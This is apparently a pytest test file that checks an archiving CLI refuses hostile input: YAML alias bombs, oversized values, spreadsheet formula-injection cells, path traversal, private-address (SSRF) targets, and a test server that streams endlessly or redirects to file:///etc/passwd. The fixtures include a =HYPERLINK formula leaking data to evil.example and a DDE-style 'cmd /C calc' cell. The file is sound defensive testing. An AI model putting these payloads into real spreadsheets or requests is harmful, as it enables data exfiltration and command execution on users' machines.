"""The bad-input matrix, continued (issue 12, the archive's side): hostile manifests,
config files, article servers, catalogues, backups and odd files, each through the
real CLI against a copy of an archive that already holds content (see
tests/support/bad_input.py), checking the exit code, the message, the recorded status
and that nothing archived before changed.
"""

from __future__ import annotations

import csv
import http.server
import io
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from archiver.articles import fetch
from tests import test_bad_input as matrix
from tests.support.bad_input import Case, Snapshot, assert_clear

ARCHIVER = str(Path(sys.executable).with_name("archiver"))

# the matrix's fixtures: a loopback site, the baseline archive, a private copy of it
bad_site, baseline, case = matrix.bad_site, matrix.baseline, matrix.case

# Nine levels of nine aliases: 9**9 (387 million) strings from a few hundred bytes.
ALIAS_BOMB = "".join(
    f"{name}: &{name} [{', '.join([f'*{previous}'] * 9) if previous else ', '.join(['lol'] * 9)}]\n"
    for previous, name in zip([None, *"abcdefgh"], "abcdefghi", strict=True)
)
# -- YAML: aliases refused, quoted values bounded ----------------------------------------


@pytest.mark.parametrize(
    ("text", "phrase"),
    [
        pytest.param(
            ALIAS_BOMB + "clips: *i\n", "aliases (*name) are not allowed", id="alias-bomb"
        ),
        pytest.param(
            "clips:\n  - 'htp://" + "x" * 1_000_000 + "'\n",
            "is not a valid URL",
            id="1MB-value",
        ),
        pytest.param(
            # an explicit key: YAML caps implicit ones at 1024 characters
            "clips: [https://example.org/v.mp4]\n? " + "y" * 1_000_000 + "\n: 1\n",
            "unknown field",
            id="1MB-key",
        ),
    ],
)
def test_hostile_manifest(case: Case, text, phrase):
    manifest = case.input_file("hostile.yaml", text)
    result = case.run("archive", "--no-transcribe", str(manifest))
    assert_clear(result, 1, "bad_manifest", phrase)
    assert len(result.output) < 2000, f"{len(result.output)} characters of output"
    [item] = case.new_rows("run_items")
    assert item["status"] == "bad_manifest" and len(item["error_message"]) < 1000
    assert case.new_rows("captures") == []
    case.assert_intact()


@pytest.mark.parametrize(
    ("text", "phrase"),
    [
        pytest.param(
            ALIAS_BOMB + "recrawl:\n  first_day_every: *i\n",
            "aliases (*name) are not allowed",
            id="alias-bomb",
        ),
        pytest.param(
            "recrawl:\n  first_day_every: '" + "9" * 1_000_000 + "'\n",
            "not a duration",
            id="1MB-value",
        ),
        pytest.param(
            "recrawl:\n  ? " + "z" * 1_000_000 + "\n  : 1\n",
            "unknown recrawl setting",
            id="1MB-key",
        ),
    ],
)
def test_hostile_config(case: Case, text, phrase):
    """ARCHIVE/config.yaml travels with a backup, so it may come from someone else."""
    (case.archive / "config.yaml").write_text(text, encoding="utf-8")
    case.before = Snapshot.of(case.archive)
    url = case.clip_page("config", case.site.media.clip)
    result = case.run("capture", "--retries", "0", url)
    assert_clear(result, 1, "config.yaml", phrase)
    assert len(result.output) < 2000, f"{len(result.output)} characters of output"
    assert case.new_rows("captures") == []
    case.assert_intact()


# -- CSV: cells a spreadsheet would evaluate --------------------------------------------


def test_exported_csv_holds_no_formulas(case: Case):
    url = case.clip_page(
        "formula",
        case.site.media.other_clip,
        name='=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        description="@SUM(1+1)*cmd|' /C calc'!A0",
        author={"@type": "Person", "name": "+1+1"},
    )
    article = case.input_file("formula.txt", "-2+3 is what a worker films on his night shift.\n")
    manifest = case.input_file(
        "formula.yaml",
        "articles:\n"
        f"  - path: {article.name}\n"
        "    outlet: '=1+2'\n"
        "links:\n"
        "  - claim: a worker films\n"
        f"    clip: {url}\n",
    )
    built = case.run("archive", "--no-transcribe", str(manifest))
    assert_clear(built, 0)
    result = case.run("export", "claims", "--format", "csv")
    assert_clear(result, 0)
    [row] = [r for r in csv.DictReader(io.StringIO(result.stdout)) if r["clip_url"] == url]
    assert row["clip_title"] == "'" + '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    assert row["clip_description"].startswith("'@SUM")
    assert row["uploader"] == "'+1+1"
    assert row["outlet"] == "'=1+2"
    assert row["claim"].startswith("'-2+3")
    for cells in csv.reader(io.StringIO(result.stdout)):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    case.assert_intact()


# -- what a manifest or an article may reach ---------------------------------------------

ALLOW_PRIVATE = "ARCHIVER_ALLOW_PRIVATE_ADDRESSES"


def _private_file(case: Case) -> Path:
    secret = case.folder / "private-notes.txt"
    secret.write_text("A video shared on TikTok shows my bank password.\n", encoding="utf-8")
    case.outside_before = case.outside()
    return secret


@pytest.mark.parametrize("spelling", ["climbing", "absolute"])
def test_manifest_article_outside_its_folder(case: Case, spelling):
    secret = _private_file(case)
    written = "../private-notes.txt" if spelling == "climbing" else str(secret)
    manifest = case.input_file("reach.yaml", f"articles:\n  - path: {written}\n")
    result = case.run("archive", "--no-transcribe", str(manifest))
    assert_clear(result, 1, "bad_manifest", "outside the manifest's folder", "--allow-outside")
    [item] = case.new_rows("run_items")
    assert (item["stage"], item["status"]) == ("manifest", "bad_manifest")
    assert case.new_rows("articles") == [] and case.new_rows("claims") == []
    case.assert_intact()

    allowed = case.run("archive", "--no-transcribe", "--allow-outside", str(manifest))
    assert_clear(allowed, 0)
    [article] = case.new_rows("articles")
    assert article["source"] == str(secret)


def test_a_link_in_an_article_to_a_private_address_is_not_fetched(case: Case, monkeypatch):
    monkeypatch.delenv(ALLOW_PRIVATE)
    url = case.clip_page("private", case.site.media.other_clip)
    page = url.rsplit("/", 1)[1]
    article = case.input_file(
        "links.html",
        "<html><body><article><p>A worker filmed his night shift in a "
        f'<a href="{url}">video</a> with 3.2 million likes.</p></article></body></html>',
    )
    result = case.run("archive", "--no-transcribe", str(article))
    assert_clear(result, 1, "private_address", "127.0.0.1", "--allow-private-addresses")
    [capture] = case.new_rows("captures")
    assert (capture["requested_url"], capture["status"]) == (url, "private_address")
    assert capture["error_class"] == "PrivateAddress" and capture["clip_id"] is None
    assert not any(path.endswith(page) for path in case.site.requests)  # never asked
    assert case.new_rows("clips") == [] and len(case.new_rows("articles")) == 1
    case.assert_intact()

    allowed = case.run("archive", "--no-transcribe", "--allow-private-addresses", str(article))
    assert_clear(allowed, 0)
    assert len(case.new_rows("clips")) == 1


@pytest.mark.parametrize(
    "host", ["127.0.0.1", "localhost", "10.1.2.3", "192.168.0.10", "169.254.169.254", "[::1]"]
)
def test_capture_of_a_private_address_is_refused(case: Case, monkeypatch, host):
    monkeypatch.delenv(ALLOW_PRIVATE)
    url = f"http://{host}:9/clip.mp4"
    result = case.run("capture", "--retries", "0", url)
    assert_clear(result, 1, "private_address: 1", "--allow-private-addresses")
    [capture] = case.new_rows("captures")
    assert (capture["requested_url"], capture["status"]) == (url, "private_address")
    case.assert_intact()


def test_an_article_url_at_a_private_address_is_not_fetched(case: Case, monkeypatch):
    monkeypatch.delenv(ALLOW_PRIVATE)
    url = case.site.add_page(f"{case.name('story')}.html", "<p>A story.</p>")
    result = case.run("ingest", url)
    assert_clear(result, 1, "private_address", "--allow-private-addresses")
    assert not any(path.endswith(url.rsplit("/", 1)[1]) for path in case.site.requests)
    [item] = case.new_rows("run_items")
    assert (item["stage"], item["status"]) == ("ingest", "private_address")
    case.assert_intact()


# -- article fetches: size, deadline, redirects, a stop signal ---------------------------


class _Hostile(http.server.BaseHTTPRequestHandler):
    """/endless: a body that never ends; /trickle: a byte every 2 s; /to-file and
    /to-ftp: redirects to other schemes."""

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        if self.path.startswith("/to-"):
            target = {"/to-file": "file:///etc/passwd", "/to-ftp": "ftp://127.0.0.1/x"}
            self.send_response(302)
            self.send_header("Location", target[self.path])
            self.end_headers()
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        try:
            if self.path == "/endless":
                chunk = b"<p>" + b"words " * 10_000 + b"</p>\n"
                while True:
                    self.wfile.write(chunk)
            self.wfile.write(b"<html><body><p>")
            for _ in range(120):
                self.wfile.write(b"a")
                self.wfile.flush()
                time.sleep(2)
        except OSError:  # the client gave up, as it should
            pass

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def hostile_server():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Hostile)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize(
    ("path", "status", "phrase"),
    [
        pytest.param("/endless", "too_large", "larger than 20 MB", id="endless-body"),
        pytest.param("/trickle", "timed_out", "still sending after 3 s", id="trickle"),
        pytest.param("/to-file", "bad_redirect", "redirects to file:///etc/passwd", id="to-file"),
        pytest.param("/to-ftp", "bad_redirect", "redirects to ftp://", id="to-ftp"),
    ],
)
def test_hostile_article_server(case: Case, hostile_server, monkeypatch, path, status, phrase):
    monkeypatch.setattr(fetch, "FETCH_DEADLINE_SECONDS", 3)
    started = time.monotonic()
    result = case.run("ingest", hostile_server + path)
    took = time.monotonic() - started
    assert_clear(result, 1, status, phrase)
    assert took < 10, f"took {took:.1f} s"
    [item] = case.new_rows("run_items")
    assert (item["stage"], item["status"]) == ("ingest", status)
    assert case.new_rows("articles") == []
    case.assert_intact()


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT])
def test_one_signal_stops_a_trickling_article_fetch(case: Case, hostile_server, signum):
    ingest = subprocess.Popen(
        [ARCHIVER, "--archive", str(case.archive), "ingest", hostile_server + "/trickle"],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    time.sleep(3)  # under way: the server is sending
    ingest.send_signal(signum)
    try:
        output, _ = ingest.communicate(timeout=10)
    except subprocess.TimeoutExpired:
        ingest.kill()
        pytest.fail("one signal did not stop the fetch")
    assert ingest.returncode == 128 + signum, output
    assert "Traceback" not in output and "Stopped by" in output
    assert case.new_rows("articles") == []
    case.assert_intact()
